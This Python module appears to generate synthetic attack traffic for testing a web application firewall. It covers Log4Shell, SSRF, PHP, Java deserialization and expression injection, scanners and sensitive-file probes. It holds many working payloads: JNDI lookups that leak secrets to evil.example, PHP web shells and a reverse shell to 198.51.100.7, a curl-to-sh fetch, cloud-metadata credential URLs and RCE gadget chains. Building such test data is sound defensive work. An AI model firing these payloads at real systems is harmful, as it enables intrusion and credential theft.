"""Attacks on platforms and infrastructure: Log4Shell, SSRF, PHP, Java deserialization/expression injection,
XXE, scanners and probes for sensitive files.

Same conventions as attacks_inject.py: hand-written payloads, documentation IP ranges, GET and POST only.
Bodies use content types that CRS allows by default (form, multipart, JSON, XML), so its content-type policy
(rule 920420) earns no detections; the one exception is S2-045, whose payload is the Content-Type itself.
"""

import base64
import struct

from .common import (
    Wire,
    browser_headers,
    client_headers,
    cookie_header,
    form_body,
    ga_cookies,
    json_body,
    multipart,
    page_headers,
    qs,
    record,
    replace_header,
    rng_for,
    with_body,
)
from .slots import cookie, form_field, header, json_field, path_param, place, query

# ---------------------------------------------------------------------------------------------------- Log4Shell

LOG4SHELL = [
    ("${jndi:ldap://198.51.100.7:1389/a}", "JNDI LDAP lookup"),
    ("${jndi:ldaps://evil.example/a}", "JNDI LDAPS lookup"),
    ("${jndi:rmi://evil.example:1099/Exploit}", "JNDI RMI lookup"),
    ("${jndi:dns://evil.example/a}", "JNDI DNS lookup (detection probe)"),
    ("${jndi:http://evil.example/a}", "JNDI HTTP lookup"),
    ("${jndi:iiop://evil.example/a}", "JNDI IIOP lookup"),
    ("${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "lower: lookups splitting jndi and ldap"),
    ("${${upper:j}ndi:ldap://evil.example/a}", "upper: lookup"),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/poc}", "default-value lookups ${::-x}"),
    ("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}", "env: lookups with defaults"),
    ("${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/a}", "protocol built from lower: lookups"),
    ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}", "date: lookups"),
    ("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.evil.example/a}", "secret exfiltration through the lookup host"),
    ("${jndi:ldap://${sys:java.version}.evil.example/a}", "system property exfiltration"),
    ("${jndi:ldap://${hostName}.c6q9.evil.example/a}", "hostName exfiltration"),
    ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}", "k8s: and sd: lookup obfuscation"),
    ("${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}", "base64: lookup"),
    ("${jNdI:lDaP://evil.example/a}", "mixed case"),
    ("${${lower:jndi}:${lower:rmi}://198.51.100.7/a}", "lower: around whole words"),
    ("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "CVE-2021-45046 localhost bypass"),
    ("${${::-j}ndi:rmi://evil.example/a}", "single default-value lookup"),
    ("${jndi:ldap://evil.example/${env:USER}}", "env exfiltration in the path"),
    ("${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}", "nested lower: lookups"),
    ("${${::-${::-$${::-j}}}}", "CVE-2021-45105 recursive lookup (DoS)"),
    ("${jndi:ldap://[::ffff:c633:6407]:1389/a}", "IPv6-mapped address"),
    ("${jn${env::-}di:ldap://evil.example/a}", "empty env lookup inside the keyword"),
    ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/a}", "NaN env defaults"),
    ("${jndi:${lower:r}mi://evil.example/o}", "single lower: in the protocol"),
]


def log4shell():
    rng = rng_for("log4shell")
    slots = [
        header("/", "User-Agent"),
        header("/api/v1/products", "X-Api-Version"),
        header("/login", "Referer"),
        header("/api/v1/orders", "X-Forwarded-For"),
        header("/api/v1/me", "Authorization", prefix="Bearer "),
        header("/api/v1/health", "X-Request-Id"),
        header("/search", "Accept-Language", query_string="q=shoes"),
        cookie("/", "username"),
        query("/api/v1/search", "q"),
        json_field("/api/v1/auth/login", {"username": "", "password": "Summer2024!"}, "username"),
        form_field("/login", [("user", ""), ("pass", "password1")], "user"),
        path_param("/api/v1/users"),
    ]
    return place(rng, LOG4SHELL, slots, 52)


# ---------------------------------------------------------------------------------------------------- SSRF

SSRF = [
    ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "EC2 instance metadata, IAM credentials"),
    ("http://169.254.169.254/latest/user-data", "EC2 user data"),
    ("http://169.254.169.254/latest/meta-data/", "EC2 metadata root"),
    ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "GCP metadata token"),
    ("http://metadata.google.internal./computeMetadata/v1/project/project-id", "GCP metadata, trailing-dot host"),
    ("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "Azure instance metadata"),
    ("http://100.100.100.200/latest/meta-data/", "Alibaba Cloud metadata"),
    ("http://2852039166/latest/meta-data/", "metadata IP as a decimal integer"),
    ("http://0xA9FEA9FE/latest/meta-data/", "metadata IP as a hex integer"),
    ("http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/", "metadata IP in dotted hex"),
    ("http://0251.0376.0251.0376/latest/meta-data/", "metadata IP in dotted octal"),
    ("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "metadata IP as IPv4-mapped IPv6 (hex)"),
    ("http://[::ffff:169.254.169.254]/latest/meta-data/", "metadata IP as IPv4-mapped IPv6 (dotted)"),
    ("http://[fd00:ec2::254]/latest/meta-data/", "EC2 IMDS IPv6 endpoint"),
    ("http://169.254.169.254.nip.io/latest/meta-data/", "metadata IP through a wildcard DNS name"),
    ("http://instance-data/latest/meta-data/", "EC2 instance-data alias"),
    ("http://169.254.170.2/v2/credentials/", "ECS task credentials endpoint"),
    ("http://evil.example@169.254.169.254/latest/meta-data/", "userinfo trick in front of the metadata IP"),
    ("http://169.254.169.254/computeMetadata/v1/", "GCP metadata path on the link-local IP"),
    ("http://169.254.169.254/openstack/latest/meta_data.json", "OpenStack metadata"),
    ("http://127.0.0.1:2375/containers/json", "local Docker API"),
    ("http://localhost:8500/v1/agent/self", "local Consul agent"),
    ("gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a", "gopher to local Redis"),
    ("http://127.1/admin", "shortened loopback address"),
    ("dict://127.0.0.1:11211/stat", "dict: to local memcached"),
    ("http://10.0.0.5:9200/_cat/indices", "internal Elasticsearch"),
    ("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "Kubernetes API from inside the cluster"),
    ("http://[::]:22/", "IPv6 unspecified address to a local port"),
    (Wire("http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252F"), "metadata URL, double percent-encoded"),
]
SSRF_UNICODE = [
    ("http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/", "metadata IP in enclosed alphanumerics"),
]


def ssrf():
    rng = rng_for("ssrf")
    slots = [
        json_field("/api/v1/webhooks", {"url": "", "events": ["order.created", "order.paid"]}, "url"),
        json_field("/api/v1/link-preview", {"url": ""}, "url"),
        json_field("/api/v1/avatars/import", {"imageUrl": "", "crop": {"x": 0, "y": 0, "size": 256}}, "imageUrl"),
        query("/api/v1/proxy", "url"),
        query("/image", "src", [("w", "400")]),
        query("/api/v1/fetch", "target"),
        form_field("/feeds/subscribe", [("feed_url", ""), ("folder", "News")], "feed_url"),
        cookie("/", "return_to"),
    ]
    out = place(rng, SSRF, slots, 44)
    json_slots = [s for s in slots if s.kind == "body-json"]
    out += place(rng, SSRF_UNICODE, json_slots, 1)
    for path, note in [
        ("/proxy/http://169.254.169.254/latest/meta-data/", "metadata URL as a proxy path"),
        ("/fetch/169.254.169.254/latest/meta-data/iam/security-credentials/", "metadata host and path in the URL path"),
        ("/api/v1/thumbnail/http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data", "encoded metadata URL in the path"),
    ]:
        out.append(record("GET", path, "", client_headers(rng), where="path", note=f"{note}; GET {path}"))
    return out


# ---------------------------------------------------------------------------------------------------- PHP

PHP_CODE = [
    ("<?php system($_GET['cmd']); ?>", "PHP web shell"),
    ("<?php echo shell_exec($_REQUEST['c']); ?>", "PHP shell_exec shell"),
    ("<?= `$_GET[0]` ?>", "short-tag backtick shell"),
    ("phpinfo();", "phpinfo() call"),
    ("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "eval of base64-decoded code"),
    ("system('id');", "system() call"),
    ("passthru('cat /etc/passwd');", "passthru() call"),
    ("file_put_contents('s.php','<?php eval($_POST[1]);?>');", "writing a web shell with file_put_contents"),
    ("preg_replace('/.*/e','system(\"id\")','');", "preg_replace /e code execution"),
    ("create_function('', 'system($_GET[c]);');", "create_function code injection"),
    ("call_user_func_array('system', array('id'));", "call_user_func_array to system"),
    ("<?php $sock=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>", "PHP reverse shell"),
    ("${@phpinfo()}", "PHP complex-syntax variable expression"),
    ("<?php include($_GET['f']); ?>", "include of a request parameter"),
    ("@ini_set(\"allow_url_include\",1);", "ini_set enabling remote includes"),
    ("proc_open('id', array(), $pipes);", "proc_open call"),
    ("assert($_POST['x']);", "assert() code execution"),
    ("gzinflate(base64_decode('80jNyclXCM8vyklRBAA='))", "gzinflate/base64 obfuscated code"),
    ("show_source('config.php');", "show_source disclosure"),
    ("popen('id','r');", "popen call"),
    ("pcntl_exec('/bin/sh');", "pcntl_exec call"),
    ("O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "PHP serialized object"),
    ("a:2:{i:0;O:4:\"User\":1:{s:7:\"isAdmin\";b:1;}i:1;s:1:\"x\";}", "PHP serialized array with an object"),
    ("O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":0:{}}", "Laravel POP gadget chain (abbreviated)"),
    ("$_GET['a']($_GET['b']);", "variable function call"),
    ("array_map('system', ['id']);", "array_map callback to system"),
]


def php():
    rng = rng_for("php")
    slots = [
        query("/index.php", "cmd"),
        query("/api/v1/eval", "code"),
        query("/page.php", "lang", [("id", "3")]),
        json_field("/api/v1/snippets", {"title": "helper", "code": "", "language": "php"}, "code"),
        json_field("/api/v1/settings", {"key": "footer_text", "value": ""}, "value"),
        form_field("/wp-admin/admin-ajax.php", [("action", "save_widget"), ("content", "")], "content"),
        form_field("/contact.php", [("name", ""), ("email", "x@example.com"), ("msg", "hi")], "name"),
        cookie("/", "prefs"),
    ]
    ascii_only = [(p, n) for p, n in PHP_CODE if "\x00" not in p]
    out = place(rng, ascii_only, slots, 32)
    laravel = [(p, n) for p, n in PHP_CODE if "\x00" in p]
    out += place(rng, laravel, [s for s in slots if s.kind in ("body-json",)], 1)

    def add(method, path, query_string, headers, body, where, note):
        out.append(record(method, path, query_string, headers, body, where=where, note=note))

    h = with_body(client_headers(rng), "application/x-www-form-urlencoded")
    add("POST", "/index.php", "page=php://input", h, "<?php system('id'); ?>", "query",
        "php://input include with PHP code in the body")
    add("POST", "/index.php", "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        with_body(browser_headers(rng), "application/x-www-form-urlencoded"), "<?php echo shell_exec('id'); ?>", "query",
        "PHP-CGI argument injection (CVE-2012-1823) with code in the body")
    add("POST", "/php-cgi/php-cgi.exe", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        with_body(browser_headers(rng), "application/x-www-form-urlencoded"), "<?php echo md5('x'); ?>", "query",
        "PHP-CGI soft-hyphen argument injection (CVE-2024-4577)")
    add("GET", "/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id",
        client_headers(rng), "", "query", "ThinkPHP invokefunction RCE (CVE-2018-20062)")
    add("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "",
        with_body(client_headers(rng), "application/x-www-form-urlencoded"), "<?php echo md5('phpunit_rce'); ?>", "body-raw",
        "PHPUnit eval-stdin RCE (CVE-2017-9841), raw PHP body with curl -d's default content type")
    for filename, ctype, content, note in [
        ("shell.php", "application/x-php", "<?php @eval($_POST['pass']);?>", "upload of a one-line PHP web shell"),
        ("avatar.php.jpg", "image/jpeg", "GIF89a;\n<?php system($_GET['c']); ?>", "PHP shell disguised behind a GIF header and double extension"),
        ("cmd.phtml", "application/octet-stream", "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; system($_REQUEST['cmd']); echo \"</pre>\"; } ?>", "upload of a .phtml shell"),
        (".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\n", "upload of an .htaccess making images executable"),
    ]:
        ctype_h, body = multipart(rng, [("title", "my picture"), ("file", filename, ctype, content)])
        add("POST", "/api/v1/uploads", "", with_body(browser_headers(rng), ctype_h), body, "body-multipart", note)
    add("GET", "/index.php", "+config-create+/&lang=../../../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+/tmp/x.php",
        client_headers(rng), "", "query", "pearcmd.php include turned into a file write")
    add("POST", "/api/v1/sessions/restore", "", with_body(client_headers(rng), "application/x-www-form-urlencoded"),
        form_body([("state", 'O:11:"CachePurger":1:{s:4:"path";s:9:"/var/www/";}')]), "body-form",
        "PHP object injection in a form field")
    return out


# ---------------------------------------------------------------------------------------------------- Java

def _java_stream(class_names):
    """Bytes shaped like a Java serialization stream naming the classes of a gadget chain (abbreviated)."""
    out = b"\xac\xed\x00\x05"
    for name in class_names:
        n = name.encode()
        out += b"\x73\x72" + struct.pack(">H", len(n)) + n + bytes(range(8)) + b"\x02\x00\x01\x4c\x00\x05value\x74\x00\x12Ljava/lang/Object;\x78\x70"
    return out + b"\x74\x00\x02id"


def java():
    rng = rng_for("java-deser")
    cc = _java_stream([
        "java.util.PriorityQueue",
        "org.apache.commons.collections4.comparators.TransformingComparator",
        "org.apache.commons.collections4.functors.InvokerTransformer",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    ])
    spring = _java_stream([
        "org.springframework.beans.factory.ObjectFactory",
        "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
        "java.lang.Runtime",
    ])
    urldns = _java_stream(["java.util.HashMap", "java.net.URL"])
    b64_cc = base64.b64encode(cc).decode()
    b64_spring = base64.b64encode(spring).decode()
    b64_urldns = base64.b64encode(urldns).decode()
    out = []

    def add(method, path, query_string, headers, body, where, note):
        out.append(record(method, path, query_string, headers, body, where=where, note=note))

    # Serialized objects where applications accept them.
    add("POST", "/invoker/JMXInvokerServlet", "", with_body(client_headers(rng), "application/json"),
        json_body({"payload": b64_cc}), "body-json", "base64 Java serialization stream (CommonsCollections-style gadget chain) in JSON")
    add("POST", "/api/v1/session/restore", "", with_body(client_headers(rng), "application/x-www-form-urlencoded"),
        form_body([("state", b64_spring)]), "body-form", "base64 Java serialization stream (Spring gadget chain) in a form field")
    add("GET", "/api/v1/cart", qs([("data", b64_urldns)], "component"), client_headers(rng), "", "query",
        "base64 Java serialization stream (URLDNS probe) in a query argument")
    add("GET", "/dashboard", "", replace_header(client_headers(rng), "Cookie", cookie_header(ga_cookies(rng) + [("viewstate", b64_cc)])), "", "cookie",
        "base64 Java serialization stream in a cookie")
    add("GET", "/api/v1/profile", "", client_headers(rng) + [("X-Session-State", b64_urldns)], "", "header:X-Session-State",
        "base64 Java serialization stream in a custom header")
    add("POST", "/api/v1/objects", "", with_body(client_headers(rng), "application/json"),
        json_body({"type": "snapshot", "blob": cc.hex()}), "body-json", "hex Java serialization stream (aced0005...) in JSON")
    add("POST", "/remoting/AccountService", "", with_body(client_headers(rng), "application/x-www-form-urlencoded"), b64_spring, "body-raw",
        "base64 Java serialization stream as a raw body with curl -d's default content type")
    # JSON polymorphic deserialization.
    for body, note in [
        ({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://evil.example:1099/Exploit", "autoCommit": True}, "Fastjson @type JdbcRowSetImpl JNDI gadget"),
        ({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"}, "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/a", "autoCommit": True}}, "Fastjson 1.2.47 cache bypass"),
        (["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://evil.example:1389/Exploit", "autoCommit": True}], "Jackson default-typing JdbcRowSetImpl gadget"),
        ({"user": {"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://198.51.100.7:1389/a"}}, "Jackson @class JndiConverter gadget"),
        ({"@type": "org.apache.commons.configuration.JNDIConfiguration", "prefix": "ldap://evil.example/a"}, "JNDIConfiguration gadget"),
        ({"id": "x", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}], "uri": "http://example.com"}, "Spring Cloud Gateway SpEL route (CVE-2022-22947)"),
    ]:
        path = "/actuator/gateway/routes/x" if "Gateway" in note else rng.choice(["/api/v1/users", "/api/v1/orders", "/api/v2/settings"])
        add("POST", path, "", with_body(client_headers(rng), "application/json"), json_body(body, rng), "body-json", note)
    # Spring4Shell (CVE-2022-22965): class.module.classLoader binding.
    s4s = [
        ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
    ]
    add("POST", "/", "", with_body(client_headers(rng), "application/x-www-form-urlencoded") + [("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%")],
        form_body(s4s), "body-form", "Spring4Shell access-log valve rewrite (CVE-2022-22965)")
    add("GET", "/greeting", qs([("class.module.classLoader.URLs[0]", "0")], "component"), client_headers(rng), "", "query",
        "Spring4Shell probe (class.module.classLoader)")
    add("GET", "/account", qs([("class.classLoader.URLs[0]", "jar:http://evil.example/x.jar!/")], "component"), client_headers(rng), "", "query",
        "Spring class.classLoader binding (CVE-2010-1622)")
    # OGNL (Struts 2), Confluence, SpEL, EL, Text4Shell.
    ognl_ct = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
               "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
               ".(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id')"
               ".(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())"
               ".(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}")
    add("POST", "/struts2-showcase/fileupload/upload.action", "", client_headers(rng) + [("Content-Type", ognl_ct)], "x=1", "header:Content-Type",
        "Struts 2 OGNL in Content-Type (S2-045, CVE-2017-5638)")
    add("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", "", client_headers(rng), "", "path",
        "Confluence OGNL injection in the path (CVE-2022-26134)")
    add("GET", "/struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action", "", client_headers(rng), "", "path",
        "Struts 2 namespace OGNL probe (S2-057)")
    add("GET", "/login.action", qs([("redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", "")], "component").rstrip("="),
        client_headers(rng), "", "query", "Struts 2 redirect: OGNL prefix (S2-016)")
    add("POST", "/user/save.action", "", with_body(client_headers(rng), "application/x-www-form-urlencoded"),
        form_body([("name", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}")]), "body-form",
        "OGNL expression in a form field")
    add("POST", "/functionRouter", "", with_body(client_headers(rng), "application/x-www-form-urlencoded") + [("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")')],
        "test", "header:spring.cloud.function.routing-expression", "Spring Cloud Function SpEL header (CVE-2022-22963)")
    for value, note, slot in [
        ('T(java.lang.Runtime).getRuntime().exec("id")', "SpEL T() Runtime.exec", ("query", "/api/v1/greeting", "name")),
        ('${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}', "Java EL reflection to Runtime.exec", ("json", "/api/v1/messages", "template")),
        ("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "Text4Shell script: lookup (CVE-2022-42889)", ("query", "/api/v1/format", "pattern")),
        ("#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "Velocity template injection", ("json", "/api/v1/emails/preview", "body")),
        ("${T(java.lang.System).getenv()}", "SpEL environment dump", ("query", "/error", "msg")),
        ("new java.lang.ProcessBuilder({'id'}).start()", "ProcessBuilder expression", ("form", "/api/v1/rules/test", "expression")),
        ("java.lang.Runtime.getRuntime().exec(\"curl http://198.51.100.7/x|sh\")", "Runtime.exec call in a script field", ("json", "/api/v1/jobs", "script")),
        ('println "id".execute().text', "Groovy execute() in a script console", ("form", "/script", "script")),
        ("${jndi:ldap://evil.example/a}-${T(javax.naming.InitialContext).doLookup('ldap://evil.example/b')}", "SpEL InitialContext lookup", ("json", "/api/v1/config/validate", "expr")),
    ]:
        kind, path, field = slot
        if kind == "query":
            add("GET", path, qs([(field, value)], rng.choice(["component", "raw"])), client_headers(rng), "", "query", f"{note}; query argument {field}")
        elif kind == "json":
            add("POST", path, "", with_body(client_headers(rng), "application/json"), json_body({field: value, "locale": "en"}, rng), "body-json", f"{note}; JSON field {field}")
        else:
            add("POST", path, "", with_body(client_headers(rng), "application/x-www-form-urlencoded"), form_body([(field, value)]), "body-form", f"{note}; form field {field}")
    # XML deserializers.
    for path, body, note in [
        ("/api/v1/import", "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", "XStream EventHandler gadget"),
        ("/wls-wsat/CoordinatorPortType", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", "WebLogic XMLDecoder (CVE-2017-10271)"),
    ]:
        add("POST", path, "", with_body(client_headers(rng), "text/xml"), body, "body-xml", note)
    return out


# ---------------------------------------------------------------------------------------------------- scanners

SCANNER_UAS = [
    ("sqlmap/1.8.11#stable (https://sqlmap.org)", "sqlmap"),
    ("sqlmap/1.7.2#stable (http://sqlmap.org)", "sqlmap (older)"),
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Nikto"),
    ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000045)", "Nikto (2.1.6)"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap NSE"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 acunetix_wvs_security_test", "Acunetix"),
    ("Mozilla/5.0 (compatible; Nessus)", "Nessus"),
    ("Nessus SOAP", "Nessus SOAP"),
    ("WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)", "WPScan"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei (bare)"),
    ("gobuster/3.6", "gobuster"),
    ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "DirBuster"),
    ("Fuzz Faster U Fool v2.1.0-dev", "ffuf"),
    ("Wfuzz/3.1.0", "wfuzz"),
    ("commix/v4.0-stable (https://commixproject.com)", "commix"),
    ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) Havij", "Havij"),
    ("Mozilla/5.0 (compatible; Netsparker)", "Netsparker"),
    ("Arachni/v1.5.1", "Arachni"),
    ("w3af.org", "w3af"),
    ("Mozilla/5.0 (compatible; OpenVAS-VT 22.4.1)", "OpenVAS"),
    ("Mozilla/5.0 zgrab/0.x", "zgrab"),
    ("ZmEu", "ZmEu"),
    ("Morfeus Fucking Scanner", "Morfeus"),
    ("Mozilla/5.0 (Jorgee)", "Jorgee"),
    ("Mozilla/4.0 (Hydra)", "THC Hydra"),
    ("WhatWeb/0.5.5", "WhatWeb"),
    ("feroxbuster/2.10.4", "feroxbuster"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html) sqlmap", "mixed scanner signature"),
    ("dirsearch", "dirsearch"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 (CensysInspect/1.1; +https://about.censys.io/)", "Censys"),
    ("l9explore/1.2.2", "LeakIX l9explore"),
    ("Mozilla/5.0 (compatible; Detectify) +https://detectify.com/bot/", "Detectify"),
]

SCANNER_PATHS = ["/", "/api/v1/health", "/login", "/index.html", "/api/v1/products?id=1", "/admin/", "/robots.txt", "/api/v2/users/me"]


def scanner():
    rng = rng_for("scanner")
    out = []
    for i, (ua, tool) in enumerate(SCANNER_UAS):
        for j in range(2 if i % 3 == 0 else 1):
            target = SCANNER_PATHS[(i * 3 + j * 5) % len(SCANNER_PATHS)]
            path, _, query_string = target.partition("?")
            h = [("User-Agent", ua), ("Accept", rng.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"]))]
            if rng.random() < 0.4:
                h.append(("Connection", "close"))
            out.append(record("GET", path, query_string, h, where="header:User-Agent", note=f"{tool} user agent; GET {target}"))
    for h_extra, note in [
        (("Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Normal)"), "Acunetix product header"),
        (("X-Scanner", "Netsparker"), "Netsparker scanner header"),
        (("Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"), "Acunetix AcuSensor header"),
    ]:
        h = browser_headers(rng, accept="*/*") + [h_extra]
        out.append(record("GET", "/", "", h, where=f"header:{h_extra[0]}", note=f"{note} with a browser user agent"))
    return out


# ---------------------------------------------------------------------------------------------------- sensitive files

SENSITIVE_PATHS = [
    ("/.env", "dotenv file with secrets"),
    ("/.env.production", "production dotenv file"),
    ("/api/.env", "dotenv file under /api"),
    ("/.git/config", "git repository config"),
    ("/.git/HEAD", "git HEAD"),
    ("/.svn/entries", "Subversion metadata"),
    ("/.hg/hgrc", "Mercurial config"),
    ("/backup.sql", "database dump"),
    ("/db/dump.sql", "database dump in a folder"),
    ("/config.php.bak", "backup of a PHP config"),
    ("/wp-config.php.bak", "backup of WordPress config"),
    ("/index.php~", "editor backup file"),
    ("/web.config", "IIS config"),
    ("/config.ini", "ini config file"),
    ("/php.ini", "PHP ini"),
    ("/logs/error.log", "error log"),
    ("/debug.log", "debug log"),
    ("/storage/logs/laravel.log", "Laravel log"),
    ("/.DS_Store", "macOS folder metadata"),
    ("/.htaccess", "Apache htaccess"),
    ("/.htpasswd", "Apache password file"),
    ("/.aws/credentials", "AWS credentials"),
    ("/.ssh/id_rsa", "SSH private key"),
    ("/.npmrc", "npm config with tokens"),
    ("/.bash_history", "shell history"),
    ("/config/database.yml", "Rails database config"),
    ("/settings.py.bak", "backup of Django settings"),
    ("/site.tar.gz", "site archive"),
    ("/backup.zip", "backup archive"),
    ("/app.config.old", "old config file"),
    ("/admin.cfg", "cfg file"),
    ("/includes/config.inc", "include file"),
    ("/.vscode/sftp.json", "editor SFTP credentials"),
    ("/.idea/workspace.xml", "IDE workspace"),
    ("/WEB-INF/web.xml", "Java webapp descriptor"),
    ("/actuator/env", "Spring Boot actuator environment"),
    ("/actuator/heapdump", "Spring Boot heap dump"),
    ("/server-status", "Apache server-status"),
    ("/phpinfo.php", "phpinfo page"),
    ("/.git/logs/HEAD", "git reflog"),
    ("/sftp-config.json", "Sublime SFTP credentials"),
    ("/docker-compose.yml", "compose file (service layout, sometimes secrets)"),
    ("/data/users.db", "SQLite database file"),
    ("/.kube/config", "kubeconfig"),
]

SENSITIVE_QUERY = [
    ("/download", "file", "database.bak", "backup file name in a query argument"),
    ("/api/v1/files", "name", "settings.ini", "ini file name in a query argument"),
    ("/view", "log", "error.log", "log file name in a query argument"),
    ("/export", "path", "config/secrets.yml.old", "old config name in a query argument"),
    ("/api/v1/static", "f", ".env", "dotenv name in a query argument"),
]


def sensitive_file():
    rng = rng_for("sensitive-file")
    out = []
    for path, note in SENSITIVE_PATHS:
        h = client_headers(rng, accept="*/*") if rng.random() < 0.5 else page_headers(rng)
        out.append(record("GET", path, "", h, where="path", note=f"{note}; GET {path}"))
